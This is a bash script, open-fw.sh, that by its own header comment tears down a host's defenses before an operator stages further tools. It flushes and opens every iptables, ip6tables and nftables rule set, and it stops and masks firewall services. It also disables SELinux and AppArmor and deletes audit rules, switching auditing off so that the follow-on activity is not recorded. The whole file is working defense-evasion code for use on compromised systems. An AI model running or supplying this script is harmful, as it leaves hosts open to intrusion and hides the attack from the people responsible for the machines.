#!/usr/bin/env bash
# open-fw.sh - clear host filtering and MAC enforcement before staging tools.
#
# Resets every iptables/ip6tables table to ACCEPT, stops the distro
# firewall front-ends, puts SELinux in permissive mode, unloads AppArmor
# profiles and switches the audit subsystem off so the operator's
# follow-on tooling is neither blocked nor recorded.
#
# usage: open-fw.sh [--dry-run] [--keep-audit]

set -uo pipefail

DRY_RUN=0
KEEP_AUDIT=0
TABLES=(filter nat mangle raw)

say() { printf '[open-fw] %s\n' "$*"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --dry-run) DRY_RUN=1 ;;
        --keep-audit) KEEP_AUDIT=1 ;;
        -h|--help) sed -n '2,9p' "$0"; exit 0 ;;
        *) say "unknown argument $1"; exit 2 ;;
    esac
    shift
done

if [[ $EUID -ne 0 ]]; then
    SUDO="sudo -n"
else
    SUDO=""
fi

x() {
    if (( DRY_RUN )); then
        say "would run: $*"
        return 0
    fi
    $SUDO "$@" >/dev/null 2>&1 || true
}

have() { command -v "$1" >/dev/null 2>&1; }

reset_netfilter() {
    local bin t
    for bin in iptables ip6tables; do
        have "$bin" || continue
        for chain in INPUT FORWARD OUTPUT; do
            x "$bin" -w 5 -P "$chain" ACCEPT
        done
        for t in "${TABLES[@]}"; do
            x "$bin" -w 5 -t "$t" -F
            x "$bin" -w 5 -t "$t" -X
            x "$bin" -w 5 -t "$t" -Z
        done
        say "$bin: all tables flushed, policies ACCEPT"
    done
    if have nft; then
        x nft flush ruleset
        say "nftables ruleset flushed"
    fi
}

stop_frontends() {
    if have ufw; then
        x ufw --force disable
        say "ufw disabled"
    fi
    for unit in firewalld nftables iptables ip6tables netfilter-persistent; do
        if systemctl list-unit-files "$unit.service" >/dev/null 2>&1; then
            x systemctl stop "$unit"
            x systemctl disable "$unit"
            x systemctl mask "$unit"
        fi
    done
    say "firewall services stopped and masked"
}

relax_mac() {
    if have getenforce && [[ "$(getenforce 2>/dev/null)" != "Disabled" ]]; then
        x setenforce 0
        if [[ -f /etc/selinux/config ]]; then
            x sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        fi
        say "SELinux permissive now, disabled at next boot"
    fi
    if have aa-teardown; then
        x aa-teardown
    elif [[ -d /sys/kernel/security/apparmor ]]; then
        x systemctl stop apparmor
    fi
    x systemctl disable apparmor
    say "AppArmor profiles unloaded"
}

silence_audit() {
    (( KEEP_AUDIT )) && { say "audit left running (--keep-audit)"; return; }
    if have auditctl; then
        x auditctl -D
        x auditctl -e 0
    fi
    x service auditd stop
    x systemctl disable auditd
    say "audit rules deleted and auditing disabled"
}

main() {
    reset_netfilter
    stop_frontends
    relax_mac
    silence_audit
    if (( ! DRY_RUN )); then
        $SUDO iptables -w 5 -S 2>/dev/null | head -n 5
    fi
    say "done"
}

main
